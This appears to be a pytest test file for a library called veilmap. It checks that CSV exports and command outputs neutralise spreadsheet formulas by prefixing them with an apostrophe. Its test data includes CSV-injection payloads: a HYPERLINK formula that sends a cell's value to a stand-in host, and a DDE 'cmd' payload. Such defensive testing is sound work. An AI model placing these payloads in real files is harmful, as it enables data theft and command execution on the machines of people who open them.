"""No spreadsheet runs a name in CSV that veilmap writes or prints, and all other cells stay unchanged."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st

import veilmap as vm
from veilmap.cli._output import print_csv
from veilmap.files.csv_cells import safe_cell
from veilmap.reproduce.runner import _write_csv
from veilmap.testing import fixed_entropy

FORMULA = '=HYPERLINK("http://example.invalid/"&A2,"more")'
DOMAIN = vm.Domain({FORMULA: (-1, 1), "-2+3": (0, 1), "@SUM(A1)": (0, 1)})
HOSTILE = [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\ufeff=1", "＝1", "-x"]
ORDINARY = ["", "Seattle", "a=b", "don't", "5", "-5", "+5.25", "-1e-7", "-120,45,-119,46", "two\nlines", "naïve", "'=1"]


@pytest.fixture(scope="module")
def release() -> vm.Release:
    points = np.random.default_rng(1).random((500, 3)) * [-1, 1, 1]
    with fixed_entropy(1):
        return vm.release(points, DOMAIN, epsilon=1, method="quad-opt", height=2)


@pytest.fixture
def saved(release: vm.Release, tmp_path: Path) -> Path:
    release.save(tmp_path / "release.parquet")
    return tmp_path / "release.parquet"


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def check_header(header: list[str], names: tuple[str, ...] = DOMAIN.names) -> None:
    """Check that the header has all names, each as text."""
    assert [cell for cell in header if cell[:2] in ("'=", "'-", "'@")] == [f"'{name}" for name in names]
    assert not [cell for cell in header if cell.startswith(("=", "+", "-", "@"))]


ENDS = tuple(f"{name}_{end}" for end in ("low", "high") for name in DOMAIN.names)


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_begins_with_an_apostrophe(text):
    assert safe_cell(text) == "'" + text.replace("\r", "\n")


@pytest.mark.parametrize("value", [*ORDINARY, -5, -1.5, None, True])
def test_cells_that_are_no_formula_stay_unchanged(value):
    assert safe_cell(value) is value or safe_cell(value) == value


@pytest.mark.parametrize(
    ("text", "written"),
    [("a;=1+1", "a;'=1+1"), ("a; @x;-y", "a; '@x;'-y"), ("=a;=b", "'=a;'=b"), ("a\t+1", "a\t'+1"), ("a;b=1", "a;b=1")],
)
def test_no_formula_begins_where_another_program_ends_a_cell(text, written):
    assert safe_cell(text) == written


@given(st.lists(st.text(), min_size=1, max_size=4))
def test_no_cell_of_a_row_begins_as_a_formula_for_any_text(texts):
    """Rows and cells are read back as they were written, even if a text has line breaks and quotes."""
    out = io.StringIO(newline="")
    csv.writer(out, lineterminator="\n").writerow(map(safe_cell, texts))
    (row,) = rows_of(out.getvalue()) or [[""]]
    assert len(row) == len(texts)
    for cell in row:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or set(cell) <= set("+-.,eE0123456789")


def test_an_export_has_names_as_text(release, tmp_path):
    release.export(tmp_path / "cells.csv")
    header, *rows = rows_of((tmp_path / "cells.csv").read_text(encoding="utf-8"))
    check_header(header, ENDS)
    assert len(rows) == 64
    assert min(float(row[0]) for row in rows) == -1


def test_an_export_can_be_read_back_as_boxes(run, release, saved, tmp_path):
    release.export(tmp_path / "cells.csv")
    status, out, _ = run("query", saved, "--boxes", tmp_path / "cells.csv", "--format", "csv")
    assert status == 0
    rows = rows_of((tmp_path / "cells.csv").read_text(encoding="utf-8"))
    found = [float(row[6]) for row in rows_of(out)[1:]]
    assert found == pytest.approx([float(row[6]) for row in rows[1:]])


def test_a_sample_has_names_as_text(run, saved, tmp_path):
    assert run("sample", saved, "-n", 50, "--seed", 1, "-o", tmp_path / "points.csv")[0] == 0
    header, *rows = rows_of((tmp_path / "points.csv").read_text(encoding="utf-8"))
    check_header(header)
    assert np.array(rows, np.float64)[:, 0].min() < 0


def test_counts_of_boxes_have_names_as_text(run, saved):
    status, out, _ = run("query", saved, "--box", "-1,0,0,0,1,1", "--format", "csv")
    assert status == 0
    header, row = rows_of(out)
    check_header(header, ENDS)
    assert row[0] == "-1.0"


def test_a_plan_says_boxes_as_they_were_typed(run):
    box = "-1,0,0.5,1"
    words = ("--epsilon", 1, "--domain", "a=-1:1,b=0:1", "--method", "quad-opt", "--height", 4)
    status, out, _ = run("plan", *words, "--box", box, "--format", "csv")
    assert status == 0
    assert rows_of(out)[1][0] == box


def test_a_ledger_shows_what_was_paid_for_as_text(run, tmp_path):
    ledger = tmp_path / "office.db"
    for words in (["create", "=homes", "--epsilon", 1], ["charge", "=homes", "--epsilon", 0.5, "--for", FORMULA]):
        assert run("ledger", *words, "--ledger", ledger)[0] == 0
    _, accounts, _ = run("ledger", "show", "--ledger", ledger, "--format", "csv")
    assert rows_of(accounts)[1][0] == "'=homes"
    _, history, _ = run("ledger", "show", "=homes", "--ledger", ledger, "--format", "csv")
    assert f"'{FORMULA}" in rows_of(history)[1]


def test_every_command_prints_formulas_as_text(capsys):
    print_csv(["=a", "b"], [[text, -1.5] for text in HOSTILE] + [["a\r=1", 2]])
    header, *rows = rows_of(capsys.readouterr().out)
    assert header == ["'=a", "b"]
    assert rows[:-1] == [[safe_cell(text), "-1.5"] for text in HOSTILE]
    assert rows[-1] == ["a\n=1", "2"]


def test_a_study_writes_formulas_as_text(tmp_path):
    _write_csv(tmp_path / "rows.csv", [{"set": "=1+1", "error": -0.5}, {"set": "roads", "more": 1}])
    assert (tmp_path / "rows.csv").read_text() == "set,error,more\n'=1+1,-0.5,\nroads,,1\n"


@pytest.mark.parametrize("kind", [None, "category", "string"])
def test_zones_have_names_and_texts_as_text(run, tmp_path, kind):
    geopandas = pytest.importorskip("geopandas", reason="there is no geopandas: pip install 'veilmap[geo]'")
    shapely = pytest.importorskip("shapely")
    points = np.random.default_rng(1).random((500, 2))
    vm.release(points, vm.Domain({"x": (0, 1), "y": (0, 1)}), 1, "quad-opt", height=2).save(tmp_path / "r.parquet")
    texts = [*HOSTILE, *ORDINARY, "a\r=1", None]
    columns = {"=name": texts, "shift": [-1.5] * len(texts), "number": range(-1, len(texts) - 1)}
    zones = geopandas.GeoDataFrame(columns, geometry=[shapely.box(0, 0, 1, 1)] * len(texts))
    zones = zones if kind is None else zones.astype({"=name": kind})
    zones.to_parquet(tmp_path / "zones.parquet")
    asked = ("query", tmp_path / "r.parquet", "--zones", tmp_path / "zones.parquet")
    assert run(*asked, "-o", tmp_path / "counts.csv")[0] == 0
    assert run(*asked, "-o", tmp_path / "counts.parquet")[0] == 0
    _, printed, _ = run(*asked, "--format", "csv")
    for text in (printed, (tmp_path / "counts.csv").read_bytes().decode()):
        header, *rows = rows_of(text)
        assert header == ["'=name", "shift", "number", "count", "stderr", "low", "high"]
        assert [row[0] for row in rows] == [safe_cell(text) or "" for text in texts]
        assert [row[1:3] for row in rows] == [["-1.5", str(k)] for k in range(-1, len(texts) - 1)]
    assert geopandas.read_parquet(tmp_path / "counts.parquet")["=name"][:3].tolist() == HOSTILE[:3]
